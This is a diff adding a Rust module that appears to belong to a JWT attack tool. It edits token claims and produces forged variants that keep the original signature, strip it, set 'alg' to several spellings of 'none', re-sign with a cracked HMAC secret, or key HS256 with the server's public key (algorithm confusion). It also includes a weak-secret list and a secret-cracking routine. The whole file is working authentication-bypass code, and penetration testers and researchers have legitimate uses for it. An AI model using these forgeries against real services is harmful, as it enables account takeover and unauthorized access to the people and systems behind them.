@@ -0,0 +1,180 @@
+use std::str::FromStr;
+use anyhow::{anyhow, bail, Result};
+use serde_json::Value;
+
+use crate::jwt::token::Jwt;
+
+// Secrets tried before any wordlist when cracking an HMAC-signed token
+pub const WEAK_SECRETS: &[&str] = &[
+    "secret",
+    "Secret",
+    "secretkey",
+    "secret_key",
+    "secret-key",
+    "jwt",
+    "jwt_secret",
+    "jwt-secret",
+    "jwtsecret",
+    "key",
+    "password",
+    "changeme",
+    "changeit",
+    "admin",
+    "test",
+    "default",
+    "123456",
+    "12345678",
+    "qwerty",
+    "your-256-bit-secret",
+    "your-384-bit-secret",
+    "your-512-bit-secret",
+    "shhhhh",
+    "mysecret",
+    "my_secret",
+    "supersecret",
+    "s3cr3t",
+    "",
+];
+
+// A change to one claim, parsed from `name=value` (value as JSON when it
+// parses, otherwise a string) or `-name` to remove the claim
+#[derive(Debug, Clone, PartialEq)]
+pub enum ClaimEdit {
+    Set(String, Value),
+    Remove(String),
+}
+
+impl FromStr for ClaimEdit {
+    type Err = anyhow::Error;
+
+    fn from_str(s: &str) -> Result<Self> {
+        if let Some(name) = s.strip_prefix('-') {
+            return Ok(Self::Remove(name.to_string()));
+        }
+        let (name, value) = s
+            .split_once('=')
+            .ok_or_else(|| anyhow!("Invalid claim edit {}, expected name=value or -name", s))?;
+        let value = serde_json::from_str(value).unwrap_or_else(|_| Value::String(value.to_string()));
+        Ok(Self::Set(name.to_string(), value))
+    }
+}
+
+// How a forged token is signed
+#[derive(Debug, Clone, PartialEq)]
+pub enum Signing {
+    // Keep the original signature, to see whether it is checked at all
+    Original,
+    // Drop the signature, keeping the header's algorithm
+    Stripped,
+    // `alg` set to the given spelling of `none` and no signature
+    None(String),
+    // HMAC with a known or cracked secret; non-HMAC tokens switch to HS256
+    Secret(Vec<u8>),
+    // HS256 keyed with the server's RSA or EC public key (algorithm confusion)
+    PublicKey(Vec<u8>),
+}
+
+impl Signing {
+    pub fn describe(&self) -> String {
+        match self {
+            Self::Original => "original signature".to_string(),
+            Self::Stripped => "signature stripped".to_string(),
+            Self::None(alg) => format!("alg {}", alg),
+            Self::Secret(secret) => format!("signed with secret {:?}", String::from_utf8_lossy(secret)),
+            Self::PublicKey(_) => "HS256 keyed with the public key".to_string(),
+        }
+    }
+}
+
+// A forged token and how it was made
+#[derive(Debug, Clone, PartialEq)]
+pub struct Variant {
+    pub name: String,
+    pub token: String,
+}
+
+// Apply claim edits and sign the result
+pub fn forge(jwt: &Jwt, edits: &[ClaimEdit], signing: &Signing) -> Result<String> {
+    let mut jwt = jwt.clone();
+    for edit in edits {
+        match edit {
+            ClaimEdit::Set(name, value) => {
+                jwt.claims.insert(name.clone(), value.clone());
+            }
+            ClaimEdit::Remove(name) => {
+                jwt.claims.remove(name);
+            }
+        }
+    }
+
+    match signing {
+        Signing::Original => Ok(jwt.with_original_signature()),
+        Signing::Stripped => Ok(jwt.unsigned()),
+        Signing::None(alg) => {
+            jwt.header.insert("alg".to_string(), Value::String(alg.clone()));
+            Ok(jwt.unsigned())
+        }
+        Signing::Secret(secret) => {
+            if !jwt.alg().is_some_and(|alg| alg.to_ascii_uppercase().starts_with("HS")) {
+                jwt.header.insert("alg".to_string(), Value::String("HS256".to_string()));
+            }
+            jwt.sign_hmac(secret)
+        }
+        Signing::PublicKey(key) => {
+            if key.is_empty() {
+                bail!("Public key is empty");
+            }
+            jwt.header.insert("alg".to_string(), Value::String("HS256".to_string()));
+            jwt.sign_hmac(key)
+        }
+    }
+}
+
+// Every attack worth sending for a token: the edits under the original
+// signature, a stripped signature, the `none` spellings, and signatures with
+// a secret and with the public key when those are known
+pub fn variants(jwt: &Jwt, edits: &[ClaimEdit], secret: Option<&[u8]>, public_key: Option<&[u8]>) -> Result<Vec<Variant>> {
+    let mut signings = vec![Signing::Original, Signing::Stripped];
+    signings.extend(["none", "None", "NONE", "nOnE"].iter().map(|alg| Signing::None(alg.to_string())));
+    if let Some(secret) = secret {
+        signings.push(Signing::Secret(secret.to_vec()));
+    }
+    if let Some(key) = public_key {
+        signings.push(Signing::PublicKey(key.to_vec()));
+        // Servers often hold the key with or without the PEM file's final newline
+        let trimmed = key.trim_ascii_end();
+        let alternate = if trimmed.len() == key.len() {
+            [key, b"\n"].concat()
+        } else {
+            trimmed.to_vec()
+        };
+        signings.push(Signing::PublicKey(alternate));
+    }
+
+    let mut variants: Vec<Variant> = Vec::new();
+    for signing in signings {
+        let token = forge(jwt, edits, &signing)?;
+        if variants.iter().any(|variant| variant.token == token) {
+            continue;
+        }
+        let mut name = signing.describe();
+        if variants.iter().any(|variant| variant.name == name) {
+            name.push_str(" (final newline toggled)");
+        }
+        variants.push(Variant { name, token });
+    }
+    Ok(variants)
+}
+
+// Find the HMAC secret of a token among the built-in weak secrets and then the candidates
+pub fn crack<'a>(jwt: &Jwt, candidates: impl IntoIterator<Item = &'a str>) -> Option<String> {
+    if !jwt.alg().is_some_and(|alg| alg.to_ascii_uppercase().starts_with("HS")) {
+        return None;
+    }
+    WEAK_SECRETS
+        .iter()
+        .copied()
+        .chain(candidates)
+        .find(|secret| jwt.verify_hmac(secret.as_bytes()))
+        .map(str::to_string)
+}